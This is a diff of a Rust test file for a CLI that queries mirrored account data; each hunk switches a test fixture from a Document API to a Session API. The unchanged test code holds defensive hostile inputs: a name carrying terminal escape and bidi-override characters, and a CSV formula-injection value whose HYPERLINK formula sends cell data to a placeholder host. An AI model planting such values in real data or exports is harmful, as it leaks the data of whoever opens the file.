@@ -11,7 +11,7 @@ async fn ran(account: &Account, state: &std::path::Path, arguments: &[&str]) -> 
 
 #[tokio::test]
 async fn rows_are_printed_as_table_csv_and_json() {
-    let account = account(Api::Document, 40).await;
+    let account = account(Api::Session, 40).await;
     let state = tempfile::tempdir().unwrap();
     let sql = "select id, name, null as missing, 1.5 as number from campaigns order by name limit 2";
     let json = ran(&account, state.path(), &["query", sql, "--format", "json"]).await;
@@ -38,7 +38,7 @@ async fn rows_are_printed_as_table_csv_and_json() {
 
 #[tokio::test]
 async fn sync_and_status_tell_how_the_mirror_stands() {
-    let account = account(Api::Document, 40).await;
+    let account = account(Api::Session, 40).await;
     let state = tempfile::tempdir().unwrap();
     let before = ran(&account, state.path(), &["status"]).await;
     assert!(before.stdout.contains("not read yet"), "{}", before.stdout);
@@ -54,7 +54,7 @@ async fn sync_and_status_tell_how_the_mirror_stands() {
 /// A person at a terminal gets the whole answer, and waits for it.
 #[tokio::test]
 async fn a_query_waits_for_the_first_scan() {
-    let account = account(Api::Document, 2_000).await;
+    let account = account(Api::Session, 2_000).await;
     let state = tempfile::tempdir().unwrap();
     let query = ran(&account, state.path(), &["query", "select count(*) from contacts", "--format", "csv"]).await;
     assert_eq!(query.stdout.lines().nth(1), Some("2000"), "{}", query.stderr);
@@ -63,7 +63,7 @@ async fn a_query_waits_for_the_first_scan() {
 /// The terminal obeys nothing that a stranger wrote.
 #[tokio::test]
 async fn what_a_terminal_would_obey_is_taken_out() {
-    let account = account(Api::Document, 5).await;
+    let account = account(Api::Session, 5).await;
     let state = tempfile::tempdir().unwrap();
     account
         .add("contacts", json!({"firstName": "\u{1b}[31mRed\u{202e}", "lastName": "X", "email": "r@x.example"}))
@@ -86,7 +86,7 @@ async fn what_a_terminal_would_obey_is_taken_out() {
 /// A spreadsheet runs what looks like a formula, and a stranger may have typed one into a form.
 #[tokio::test]
 async fn csv_is_safe_to_open_and_numbers_stay() {
-    let account = account(Api::Document, 5).await;
+    let account = account(Api::Session, 5).await;
     let state = tempfile::tempdir().unwrap();
     let formula = "=HYPERLINK(\"https://x.example?\"&A1)";
     account.add("contacts", json!({"firstName": formula, "lastName": "X", "email": "r@x.example"})).await;
